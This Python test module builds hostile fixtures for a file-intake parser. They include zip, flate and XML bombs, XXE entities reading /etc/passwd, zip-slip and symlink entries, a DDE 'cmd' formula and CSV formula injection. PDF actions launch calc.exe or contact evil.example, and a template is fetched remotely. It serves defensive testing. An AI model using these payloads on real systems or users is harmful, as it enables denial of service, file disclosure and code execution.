"""Builds hostile attachments and tables: bombs, circles, scripts, files under false names."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Final

from pikepdf import Encryption, Pdf
from PIL import Image

from tests.intake.office_files import S, docx, image, paragraph, pdf, xlsx, zipped
from tests.scale import scaled

Build = Callable[[], bytes]
_BOMB: Final = b"\0" * 60_000_000


def raw_pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A PDF of some objects, numbered from 1; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, tail, start)


def _page_pdf(catalogue: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]%s>>" % page,
        *more,
    )


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"] * count
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count), *pages)


def _flate_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m 9 9 l S\n" * 100_000) for _ in range(300)) + packer.flush()
    return _page_pdf(b"", b"/Contents 4 0 R", _stream(packed, b"/Filter/FlateDecode"))


def _locked_pdf() -> bytes:
    out = BytesIO()
    with Pdf.open(BytesIO(pdf("secret"))) as document:
        document.save(out, encryption=Encryption(owner="a", user="b"))
    return out.getvalue()


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(b"\0" * 100_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + pixels + chunk(b"IEND", b"")


def _gif(frames: int) -> bytes:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + frame * frames + b";"


def _tiff_circle() -> bytes:
    tags = ((256, 4), (257, 4), (258, 8), (259, 1), (262, 1), (273, 200), (277, 1), (278, 4), (279, 16))
    entries = b"".join(struct.pack("<HHII", tag, 3, 1, value) for tag, value in tags)
    ring = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 8)
    return ring.ljust(200, b"\0") + bytes(16)


def _gps_photo() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (48.0, 8.0, 1.0), 3: "E", 4: (11.0, 34.0, 1.0)}
    return image("JPEG", exif=exif)


def _zip_link() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked_zip() -> bytes:
    content = bytearray(docx(paragraph("x")))
    start = 0
    while (start := content.find(b"PK\x01\x02", start)) >= 0:
        content[start + 8] |= 1
        start += 4
    return bytes(content)


def _xml_bomb() -> bytes:
    layers = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=f'<!DOCTYPE x [<!ENTITY a0 "ha">{layers}]>')


def _dde() -> bytes:
    row = """<row><c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>"""
    return xlsx(
        row, extra={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"><ddeLink/></externalLink>'}
    )


def _template() -> bytes:
    link = '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    return docx(paragraph("Dear office"), extra={"word/_rels/document.xml.rels": link})


def _action(kind: bytes) -> bytes:
    return _page_pdf(b"/OpenAction<<%s>>" % kind)


def hostile_files() -> Iterator[tuple[str, str, Build]]:
    """File name, what it is, and how to build it; each is looked at."""
    yield (
        "bomb.docx",
        "a document whose text inflates to 60 MB of nothing",
        lambda: docx("", extra={"word/footnotes.xml": _BOMB}),
    )
    yield "bomb.zip", "an archive that inflates to 60 MB", lambda: zipped({"a": _BOMB})
    yield (
        "nested.zip",
        "an archive in an archive in an archive",
        lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c": _BOMB})})}),
    )
    yield "link.docx", "a part that is a link to /etc/passwd", _zip_link
    yield "slip.docx", "parts named to leave the folder", lambda: docx(paragraph("x"), extra={"../../x.txt": "slipped"})
    yield "entries.docx", "100,000 parts", lambda: docx("", extra={f"a{n}": "" for n in range(scaled(100_000, 6_000))})
    yield "locked.docx", "locked with a password", _locked_zip
    yield "javascript.pdf", "runs a script when it is opened", lambda: _action(b"/S/JavaScript/JS(app.alert\\(1\\))")
    yield "launch.pdf", "starts a program when it is opened", lambda: _action(b"/S/Launch/F(calc.exe)")
    yield (
        "remote.pdf",
        "goes to a file on a server when it is opened",
        lambda: _action(b"/S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]"),
    )
    yield "submit.pdf", "sends a form away when it is opened", lambda: _action(b"/S/SubmitForm/F(http://evil.example)")
    yield (
        "embedded.pdf",
        "carries a program",
        lambda: _page_pdf(
            b"/Names<</EmbeddedFiles<</Names[(x.exe)4 0 R]>>>>",
            b"",
            b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>",
            _stream(b"MZ program", b"/Type/EmbeddedFile"),
        ),
    )
    yield "flate.pdf", "a page whose drawing inflates to 420 MB", _flate_bomb
    yield (
        "circle.pdf",
        "a page tree that is its own child",
        lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
    )
    yield "pages.pdf", "100,000 pages", lambda: _many_pages(scaled(100_000, 5_000))
    yield "password.pdf", "locked with a password", _locked_pdf
    yield (
        "xfa.pdf",
        "a form that is a program (XFA)",
        lambda: _page_pdf(
            b"/AcroForm<</XFA 4 0 R/Fields[]>>", b"", _stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        ),
    )
    yield (
        "huge-page.pdf",
        "a page of 10^9 points",
        lambda: pdf("x").replace(b"595.2756 841.8898", b"999999999 99999999"),
    )
    yield "polyglot.gif", "a picture that is also a PDF", lambda: image("GIF") + pdf("hidden")
    yield "polyglot.pdf", "a PDF that is also an archive", lambda: pdf("shown") + zipped({"run.exe": "MZ"})
    yield "60000.png", "a picture of 60,000 × 60,000 pixels", lambda: _png(60_000, 60_000)
    yield "frames.gif", "a picture of 100,000 images", lambda: _gif(scaled(100_000, 20_000))
    yield "cut.jpg", "a photograph without its end", lambda: image("JPEG", (900, 900))[:4_000]
    yield "gps.jpg", "a photograph that tells where it was taken", _gps_photo
    yield "circle.tif", "a fax whose second page is its first", _tiff_circle
    yield (
        "noise.webp",
        "noise behind the mark of a picture",
        lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(range(256)) * 99,
    )
    yield (
        "entity.svg",
        "a drawing that reads a file",
        lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    )
    yield "template.docx", "fetches a template from a server", _template
    yield "dde.xlsx", "starts a program by DDE", _dde
    yield "bomb-xml.docx", "a billion laughs in XML", _xml_bomb
    yield (
        "entity.docx",
        "XML that reads a file",
        lambda: docx(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        ),
    )
    yield "deep.docx", "XML 100,000 deep", lambda: docx("<w:p>" * 100_000)
    yield "macros.docx", "carries macros", lambda: docx(paragraph("x"), extra={"word/vbaProject.bin": "x"})
    yield "invoice.pdf", "a program under the name of a PDF", lambda: b"MZ\x90\x00" + bytes(500)
    yield "letter.doc", "an old Word file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)
    yield "shortcut.lnk", "a shortcut of Windows", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)
    yield "script.js", "a script", lambda: b"WScript.Shell.Run('calc')"
    yield (
        "page.html",
        "a web page with script and picture from elsewhere",
        lambda: b"<html><script>x()</script><img src='http://evil.example/t.png'><p>Hello</p></html>",
    )
    yield "nothing.pdf", "0 bytes", lambda: b""
    yield "carried.eml", "a mail that is attached", lambda: b"From: a@example.org\r\nSubject: x\r\n\r\nhello"


def hostile_tables() -> Iterator[tuple[str, str, Build]]:
    """The same for exports of the form."""
    row = "Ann,a@example.org,Please erase my data."
    formulas = "".join(f'"{start}cmd|x",a@example.org,hi\n' for start in "=+-@\t＝")
    yield (
        "formulas.csv",
        "cells that are formulas",
        f"name,e-mail,message\n{formulas}".encode,
    )
    yield (
        "quotes.csv",
        "quotation marks and line ends in cells",
        lambda: b'name,message\nAnn,"say ""hi""\nand go"\nBob,"never closed\nx,y\n',
    )
    yield "sep.csv", "a line that names the separator", lambda: b"sep=;\nname;message\nAnn;hi\n"
    yield "bom.csv", "UTF-8 with a mark", lambda: f"name,e-mail,message\n{row}".encode("utf-8-sig")
    yield "utf-16.csv", "UTF-16", lambda: f"name,e-mail,message\n{row}".encode("utf-16")
    yield "gb18030.csv", "GB18030", lambda: "姓名,留言\n张三,请删除我的个人信息\n".encode("gb18030")
    yield "columns.csv", "1,000,000 columns", lambda: b"name,message," + b"," * 1_000_000
    yield "rows.csv", "more than 10,000 rows", lambda: b"name,message\n" + b"Ann,hi\n" * 10_001
    yield (
        "long-cell.csv",
        "a cell of 20 MB",
        lambda: b'name,message\nAnn,hi\nBob,"' + b"x" * (scaled(20, 4) * 2**20) + b'"\n',
    )
    yield "large.csv", "a cell of 50 MB", lambda: b"name,message\nAnn," + b"x" * (scaled(50, 26) * 2**20)
    yield "ragged.csv", "rows of other lengths than the headings", lambda: b"name,message\nAnn\nBob,hi,there\nEve,hi\n"
    yield "noise.csv", "noise", lambda: bytes(range(256)) * 400
    yield "prices.csv", "a table about something else", lambda: b"article,price\npen,1\n"
